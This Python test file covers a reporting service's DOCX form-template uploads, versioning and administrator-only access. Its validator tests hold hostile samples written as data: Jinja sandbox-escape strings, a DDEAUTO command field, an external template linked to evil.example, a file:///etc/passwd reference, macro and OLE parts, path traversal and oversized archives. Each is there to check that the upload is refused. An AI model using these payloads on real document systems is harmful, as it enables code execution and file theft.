"""The administrator's templates: what is refused of a file and why, its versions, which one is in force."""

import hashlib
import io
import re
from dataclasses import replace
from uuid import uuid4
from zipfile import ZIP_DEFLATED, ZipFile

import grpc
import pytest
from ykcd.event.v1.envelope_pb2 import AccessDenied
from ykcd.reporting.v1 import form_pb2 as pb
from ykcd.reporting.v1 import form_pb2_grpc
from ykcd.reporting.v1.event_pb2 import FormTemplatesChanged

from kit.errors import InvalidArgument
from kit.testing.stack import Stack
from services.reporting.forms import service
from services.reporting.forms.paper import Form, Format
from services.reporting.forms.render import render
from services.reporting.forms.samples import SAMPLES
from services.reporting.forms.template import template
from services.reporting.forms.upload import require_template
from services.reporting.tests.factories import ADMINISTRATOR, AN, EVALUATOR, OFFICE_LEADER, STNMT_LEADER
from services.reporting.tests.test_papers import docx_text

DEFAULT = template(SAMPLES[Form.II])
DOCUMENT, RELATIONS, TYPES = "word/document.xml", "word/_rels/document.xml.rels", "[Content_Types].xml"


def upload(content: bytes, form: int = pb.FORM_II, **more) -> pb.UploadFormTemplateRequest:
    return pb.UploadFormTemplateRequest(request_id=str(uuid4()), form=form, content=content, **more)


def use(version: int, form: int = pb.FORM_II) -> pb.UseFormTemplateRequest:
    return pb.UseFormTemplateRequest(request_id=str(uuid4()), form=form, version=version)


REQUESTS = {
    "GetForm": lambda: pb.GetFormRequest(form=pb.FORM_I, format=pb.FILE_FORMAT_PDF),
    "ListFormTemplates": lambda: pb.ListFormTemplatesRequest(form=pb.FORM_II),
    "DownloadFormTemplate": lambda: pb.DownloadFormTemplateRequest(form=pb.FORM_II),
    "UploadFormTemplate": lambda: upload(DEFAULT),
    "UseFormTemplate": lambda: use(0),
}
KEEPING = [name for name in REQUESTS if name != "GetForm"]


@pytest.fixture
def forms(stack: Stack) -> form_pb2_grpc.FormServiceStub:
    return form_pb2_grpc.FormServiceStub(stack.channel)


def edited(content: bytes, parts: dict[str, bytes | tuple[str, str]]) -> bytes:
    """The same file with parts replaced or added (bytes), or edited (from, to)."""
    file, rest = io.BytesIO(), dict(parts)
    with ZipFile(io.BytesIO(content)) as old, ZipFile(file, "w", ZIP_DEFLATED) as new:
        for name in old.namelist():
            part = rest.pop(name, old.read(name))
            if isinstance(part, tuple):
                assert part[0].encode() in old.read(name)
                part = old.read(name).replace(part[0].encode(), part[1].encode(), 1)
            new.writestr(name, part)
        for name, part in rest.items():
            new.writestr(name, part)
    return file.getvalue()


def with_text(words: str) -> bytes:
    """With these words in a paragraph of its own."""
    return edited(DEFAULT, {DOCUMENT: ("<w:body>", f"<w:body><w:p><w:r><w:t>{words}</w:t></w:r></w:p>")})


def refused(content: bytes, form: Form = Form.II) -> InvalidArgument:
    with pytest.raises(InvalidArgument) as caught:
        require_template(form, content)
    assert [violation.path for violation in caught.value.violations] == ["content"]
    return caught.value


@pytest.mark.parametrize("form", SAMPLES)
def test_the_default_of_each_form_can_be_edited_and_uploaded_again(form: Form) -> None:
    default = template(SAMPLES[form])
    require_template(form, default)
    again = edited(default, {DOCUMENT: ("Nơi nhận:", "Nơi nhận bản giấy:")})
    require_template(form, again)
    assert "Nơi nhận bản giấy:" in docx_text(render(SAMPLES[form], Format.DOCX, again))


def test_a_template_prints_a_paper_that_has_less_than_its_form_can_have() -> None:
    """A report that corrects nothing."""
    less = replace(SAMPLES[Form.V], blocks=SAMPLES[Form.V].blocks[:3], recipients=())
    text = " ".join(docx_text(render(less, Format.DOCX, template(SAMPLES[Form.V]))).split())
    assert ("Sở Y tế" in text, "Nơi nhận" in text) == (True, False)
    assert "Điều chỉnh số liệu của kỳ báo cáo trước Không có." in text


@pytest.mark.article("Đ8.1.d")
@pytest.mark.parametrize(
    ("words", "field"),
    [
        ("{{ ngay_ky }}", "ngay_ky"),
        ("{{ config }}", "config"),
        ("{{ self }}", "self"),
        ("{{ row.measure }}", "row"),
        ("{{ title }}{{ la.measure }}", "la"),
        ("{% for row in answer %}{{ row.cause }}{% endfor %}", "row.cause"),
        ("{% for row in answer %}{{ row.__class__ }}{% endfor %}", "row.__class__"),
        ("{% for row in items %}{{ row.tt }}{% endfor %}", "items"),
        ("{% if overdue and chua_co %}x{% endif %}", "chua_co"),
    ],
)
def test_a_template_with_a_field_that_its_form_has_not_is_refused_by_name(words: str, field: str) -> None:
    error = refused(with_text(words))
    assert (error.reason, error.metadata, field in error.message) == ("TEMPLATE_FIELD_UNKNOWN", {"field": field}, True)


@pytest.mark.parametrize("place", ["word/header1.xml", "word/footer1.xml", "docProps/core.xml"])
def test_fields_are_looked_at_wherever_they_stand(place: str) -> None:
    part = ZipFile(io.BytesIO(DEFAULT)).read(place).decode()
    inside = "{{ note }}" if "{{ note }}" in part else "{{ title }}" if "{{ title }}" in part else " PAGE "
    content = edited(DEFAULT, {place: (inside, "{{ la }}")})
    if place == "word/header1.xml":
        content = edited(DEFAULT, {place: ("<w:r><w:fldChar", "<w:r><w:t>{{ la }}</w:t></w:r><w:r><w:fldChar")})
    assert refused(content).metadata == {"field": "la"}


@pytest.mark.parametrize(
    "words",
    [
        "{{ title.upper() }}",
        "{{ title.__class__ }}",
        "{{ title | upper }}",
        "{{ 'x' * 999999999 }}",
        "{% for x in title %}{% endfor %}",
        "{% for row in answer %}{% for again in answer %}x{% endfor %}{% endfor %}",
        "{% set title = 1 %}",
        "{% include 'x' %}",
        "{% macro x() %}{% endmacro %}",
        "{{ cycler.__init__.__globals__ }}",
        "{% if title %}",
        "{% endfor %}",
    ],
)
def test_only_fields_loops_and_conditions_may_stand_in_a_template(words: str) -> None:
    assert refused(with_text(words)).reason in ("TEMPLATE_TAG_REFUSED", "TEMPLATE_FIELD_UNKNOWN")


_LINK = '<Relationship Id="rId99" Type="http://x/{}" Target="{}" TargetMode="External"/></Relationships>'


@pytest.mark.parametrize(
    ("parts", "named"),
    [
        ({"word/vbaProject.bin": b"\xd0\xcf\x11\xe0"}, "vbaProject.bin"),
        ({"word/embeddings/oleObject1.bin": b"\xd0\xcf\x11\xe0"}, "oleObject1.bin"),
        ({"word/activeX/activeX1.xml": b"<x/>"}, "activeX1.xml"),
        ({"word/afchunk.rtf": b"{}"}, "afchunk.rtf"),
        ({"../escape.xml": b"<x/>"}, "escape.xml"),
        ({RELATIONS: ("</Relationships>", _LINK.format("attachedTemplate", "http://evil.example/a.dotm"))}, "evil.example"),
        ({RELATIONS: ("</Relationships>", _LINK.format("image", "file:///etc/passwd"))}, "passwd"),
        ({DOCUMENT: ("<w:body>", '<w:body><w:p><w:fldSimple w:instr="DDEAUTO c:\\\\cmd"/></w:p>')}, "DDEAUTO"),
        ({DOCUMENT: ("<w:body>", "<w:body><w:p><w:r><w:instrText>INCLUDEPICTURE http://x</w:instrText></w:r></w:p>")}, "INCLUDEPICTURE"),
        ({DOCUMENT: ("<w:document", '<!DOCTYPE x [<!ENTITY a "b">]><w:document')}, "document.xml"),
    ],
)
def test_nothing_that_runs_embeds_or_fetches_comes_in(parts: dict, named: str) -> None:
    error = refused(edited(DEFAULT, parts))
    assert (error.reason, named in error.metadata["part"]) == ("TEMPLATE_PART_REFUSED", True)


def test_what_is_no_word_document_or_a_bomb_is_refused() -> None:
    macro = ("wordprocessingml.document.main+xml", "document.macroEnabled.main+xml")
    workbook = render(SAMPLES[Form.I], Format.XLSX)
    assert {refused(content).reason for content in (b"%PDF-1.7", b"PK\x03\x04", DEFAULT[:-30], edited(DEFAULT, {TYPES: macro}))} == {
        "TEMPLATE_UNREADABLE"
    }
    assert refused(workbook).reason == "TEMPLATE_PART_REFUSED"
    assert refused(edited(DEFAULT, {DOCUMENT: b"<w:document"})).reason == "TEMPLATE_UNREADABLE"
    assert refused(edited(DEFAULT, {"word/media/a.png": b"\0" * 20_000_000})).reason == "TEMPLATE_TOO_LARGE"
    assert refused(edited(DEFAULT, {f"word/media/{n}.png": b"" for n in range(400)})).reason == "TEMPLATE_TOO_LARGE"


def test_every_rpc_is_tried_as_a_stranger() -> None:
    assert sorted(REQUESTS) == sorted(m.name for s in pb.DESCRIPTOR.services_by_name.values() for m in s.methods)


@pytest.mark.parametrize("name", REQUESTS)
async def test_a_stranger_is_refused(stack: Stack, forms, name: str) -> None:
    call = getattr(forms, name)(REQUESTS[name]())
    with pytest.raises(grpc.RpcError) as caught:
        await (call.read() if name == "GetForm" else call)
    assert caught.value.code() is grpc.StatusCode.UNAUTHENTICATED


@pytest.mark.article("Đ8.1.d")
@pytest.mark.parametrize("name", KEEPING)
async def test_templates_are_the_administrators(stack: Stack, forms, name: str) -> None:
    for person in (AN, OFFICE_LEADER, EVALUATOR, STNMT_LEADER):
        error = await stack.refused(getattr(forms, name), REQUESTS[name](), person)
        assert (error.code, error.reason) == (grpc.StatusCode.PERMISSION_DENIED, "ROLE_REQUIRED")
    assert len(await stack.events(AccessDenied)) == 4
    assert await stack.events(FormTemplatesChanged) == []
    await stack.call(getattr(forms, name), REQUESTS[name](), ADMINISTRATOR)


@pytest.mark.article("Đ8.1.d")
async def test_versions_are_kept_and_the_one_in_force_is_chosen(stack: Stack, forms) -> None:
    first, second = (edited(DEFAULT, {DOCUMENT: ("Nơi nhận:", f"Nơi nhận bản {n}:")}) for n in (1, 2))
    for content in (first, second):
        made = await stack.call(forms.UploadFormTemplate, upload(content, note=" Đổi nơi nhận. "), ADMINISTRATOR)
    assert (made.version, made.size, made.sha256) == (2, len(second), hashlib.sha256(second).hexdigest())
    assert (made.note, made.uploaded_by_name, made.in_force) == ("Đổi nơi nhận.", ADMINISTRATOR.name, False)
    assert await in_force(stack) is None
    for version, content in ((1, first), (2, second), (0, None), (0, None), (2, second)):
        listed = await stack.call(forms.UseFormTemplate, use(version), ADMINISTRATOR)
        assert [(row.version, row.in_force) for row in listed.templates] == [(2, version == 2), (1, version == 1)]
        assert await in_force(stack) == content
    told = [event for _envelope, event in await stack.events(FormTemplatesChanged)]
    assert [(event.uploaded.version, event.version_in_force) for event in told] == [(1, 0), (2, 0), (0, 1), (0, 2), (0, 0), (0, 2)]
    versions = [envelope.aggregate_version for envelope, _event in await stack.events(FormTemplatesChanged)]
    assert versions == [1, 2, 3, 4, 5, 6]
    for version, content in ((0, DEFAULT), (1, first)):
        wanted = pb.DownloadFormTemplateRequest(form=pb.FORM_II, version=version)
        given = await stack.call(forms.DownloadFormTemplate, wanted, ADMINISTRATOR)
        assert (given.content, given.file.size) == (content, len(content))
        assert re.fullmatch(r"mau-phu-luc-II(-v1)?\.docx", given.file.file_name)


async def in_force(stack: Stack) -> bytes | None:
    async with stack.session() as session:
        return await service.template_in_force(session, Form.II)


async def test_an_upload_repeated_is_one_and_a_refused_one_none(stack: Stack, forms) -> None:
    request = upload(DEFAULT)
    answers = [await stack.call(forms.UploadFormTemplate, request, ADMINISTRATOR) for _ in range(2)]
    assert answers[0] == answers[1]
    error = await stack.refused(forms.UploadFormTemplate, upload(with_text("{{ la }}")), ADMINISTRATOR)
    assert (error.reason, error.fields, error.error.metadata) == ("TEMPLATE_FIELD_UNKNOWN", ["content"], {"field": "la"})
    large = await stack.refused(forms.UploadFormTemplate, upload(b"x" * (2 * 1024 * 1024 + 1)), ADMINISTRATOR)
    assert large.fields == ["content"]
    listed = await stack.call(forms.ListFormTemplates, pb.ListFormTemplatesRequest(form=pb.FORM_II), ADMINISTRATOR)
    assert [row.version for row in listed.templates] == [1]


async def test_what_a_template_may_name_is_told(stack: Stack, forms) -> None:
    listed = await stack.call(forms.ListFormTemplates, pb.ListFormTemplatesRequest(form=pb.FORM_VI), ADMINISTRATOR)
    assert {"title", "abstract", "number", "general", "qr"} <= set(listed.fields)
    lists = {found.name: list(found.columns) for found in listed.lists}
    assert (lists["recipients"], "days_overdue" in lists["items"], "unit" in lists["corrections"]) == ([], True, True)


async def test_a_version_that_is_not_there_is_not_found(stack: Stack, forms) -> None:
    await stack.call(forms.UploadFormTemplate, upload(DEFAULT), ADMINISTRATOR)
    for method, request in (
        (forms.UseFormTemplate, use(2)),
        (forms.DownloadFormTemplate, pb.DownloadFormTemplateRequest(form=2, version=2)),
    ):
        assert (await stack.refused(method, request, ADMINISTRATOR)).code is grpc.StatusCode.NOT_FOUND
    assert await in_force(stack) is None
